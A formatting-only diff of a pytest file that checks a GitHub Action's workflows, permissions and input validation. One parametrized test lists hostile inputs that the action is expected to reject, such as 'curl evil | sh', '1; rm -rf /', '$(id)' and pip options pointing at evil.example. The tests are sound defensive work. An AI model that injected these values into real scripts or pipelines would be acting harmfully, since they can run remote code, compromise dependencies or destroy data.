@@ -77,27 +77,49 @@ def triggers(doc: dict[str, Any]) -> set[str]:
 
 def test_workflows_validate_against_githubs_schema() -> None:
     proc = subprocess.run(
-        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows",
-         *map(str, ALL_WORKFLOWS)],
-        capture_output=True, text=True, check=False,
+        [
+            tool("check-jsonschema"),
+            "--builtin-schema",
+            "vendor.github-workflows",
+            *map(str, ALL_WORKFLOWS),
+        ],
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert proc.returncode == 0, proc.stdout + proc.stderr
 
 
 def test_actions_validate_against_githubs_schema() -> None:
     proc = subprocess.run(
-        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-actions",
-         *map(str, ALL_ACTIONS)],
-        capture_output=True, text=True, check=False,
+        [
+            tool("check-jsonschema"),
+            "--builtin-schema",
+            "vendor.github-actions",
+            *map(str, ALL_ACTIONS),
+        ],
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert proc.returncode == 0, proc.stdout + proc.stderr
 
 
 def test_zizmor_reports_no_findings() -> None:
     proc = subprocess.run(
-        [tool("zizmor"), "--offline", "--no-progress", ".github/workflows", ".github/actions",
-         "action.yml", *(rel(p) for p in [*EXAMPLES, *SCENARIOS, *STANDINS])],
-        cwd=REPO, capture_output=True, text=True, check=False,
+        [
+            tool("zizmor"),
+            "--offline",
+            "--no-progress",
+            ".github/workflows",
+            ".github/actions",
+            "action.yml",
+            *(rel(p) for p in [*EXAMPLES, *SCENARIOS, *STANDINS]),
+        ],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        check=False,
     )
     assert proc.returncode == 0, proc.stdout + proc.stderr
     assert "No findings to report" in proc.stdout + proc.stderr
@@ -152,7 +174,7 @@ def test_permissions_empty_at_top_and_commented_per_job(path: Path) -> None:
         assert "permissions" in job, f"{rel(path)}: job {job_id} declares no permissions"
     for n, line in enumerate(text, start=1):
         grant = re.match(r"^\s+([a-z-]+): (read|write)\s*(#.*)?$", line)
-        if grant and any("permissions:" in prev for prev in text[max(0, n - 4):n - 1]):
+        if grant and any("permissions:" in prev for prev in text[max(0, n - 4) : n - 1]):
             assert grant.group(3), f"{rel(path)}:{n}: say why the job needs {grant.group(1)}"
 
 
@@ -180,8 +202,9 @@ def test_jobs_have_timeouts_and_runs_have_concurrency(path: Path) -> None:
         assert "github.workflow" not in group, f"{rel(path)}: job {job_id} group {group}"
 
 
-@pytest.mark.parametrize("path", [p for p in WORKFLOWS if "workflow_call" in triggers(load(p))],
-                         ids=rel)
+@pytest.mark.parametrize(
+    "path", [p for p in WORKFLOWS if "workflow_call" in triggers(load(p))], ids=rel
+)
 def test_reusable_workflow_inputs_are_typed_described_kebab_case(path: Path) -> None:
     call = load(path)["on"]["workflow_call"]
     for name, spec in (call.get("inputs") or {}).items():
@@ -231,8 +254,9 @@ def run_script(tmp_path: Path, **inputs: str) -> subprocess.CompletedProcess[str
         "PIP_NO_INDEX": "1",
         **{f"FORGEFLOW_INPUT_{k.upper()}": v for k, v in inputs.items()},
     }
-    return subprocess.run(["bash", str(SCRIPT)], env=env, capture_output=True, text=True,
-                          cwd=tmp_path, check=False)
+    return subprocess.run(
+        ["bash", str(SCRIPT)], env=env, capture_output=True, text=True, cwd=tmp_path, check=False
+    )
 
 
 def test_script_starts_strict() -> None:
@@ -245,18 +269,29 @@ def test_script_starts_strict() -> None:
     [
         pytest.param({"agent": "echo; curl evil | sh"}, "input agent", id="agent-injection"),
         pytest.param({"agent": "../../bin/sh"}, "input agent", id="agent-path"),
-        pytest.param({"extra_packages": "--index-url=https://evil.example/simple"},
-                     "input extra-packages", id="pip-option"),
-        pytest.param({"extra_packages": "-e git+https://evil.example/x.git"},
-                     "input extra-packages", id="editable-url"),
-        pytest.param({"extra_packages": "good==1.0 ./local/path"}, "input extra-packages",
-                     id="local-path"),
-        pytest.param({"extra_packages": "name @ https://evil.example/x.whl"},
-                     "input extra-packages", id="direct-url"),
+        pytest.param(
+            {"extra_packages": "--index-url=https://evil.example/simple"},
+            "input extra-packages",
+            id="pip-option",
+        ),
+        pytest.param(
+            {"extra_packages": "-e git+https://evil.example/x.git"},
+            "input extra-packages",
+            id="editable-url",
+        ),
+        pytest.param(
+            {"extra_packages": "good==1.0 ./local/path"}, "input extra-packages", id="local-path"
+        ),
+        pytest.param(
+            {"extra_packages": "name @ https://evil.example/x.whl"},
+            "input extra-packages",
+            id="direct-url",
+        ),
         pytest.param({"settings": "no equals sign"}, "input settings", id="bad-setting"),
         pytest.param({"agent": "echo", "input": ""}, "input input: required", id="no-input"),
-        pytest.param({"agent": "echo", "input": "missing.json"}, "is not a file",
-                     id="missing-input"),
+        pytest.param(
+            {"agent": "echo", "input": "missing.json"}, "is not a file", id="missing-input"
+        ),
         pytest.param({"run_id": "1; rm -rf /"}, "input run-id", id="run-id"),
         pytest.param({"correlation_id": "$(id)"}, "input correlation-id", id="correlation-id"),
     ],
@@ -282,8 +317,9 @@ def test_script_error_messages_cannot_smuggle_workflow_commands(tmp_path: Path) 
 def test_script_runs_an_agent_and_writes_outputs_and_summary(tmp_path: Path) -> None:
     """The happy path outside act: install into a venv (offline), run, outputs, summary."""
     (tmp_path / "in.json").write_text('{"text": "a | b `c`"}')
-    proc = run_script(tmp_path, agent="word_count", input="in.json", output="out/wc.json",
-                      settings="")
+    proc = run_script(
+        tmp_path, agent="word_count", input="in.json", output="out/wc.json", settings=""
+    )
     assert proc.returncode == 0, proc.stdout + proc.stderr
     outputs = dict(
         line.split("=", 1) for line in (tmp_path / "output.txt").read_text().splitlines()
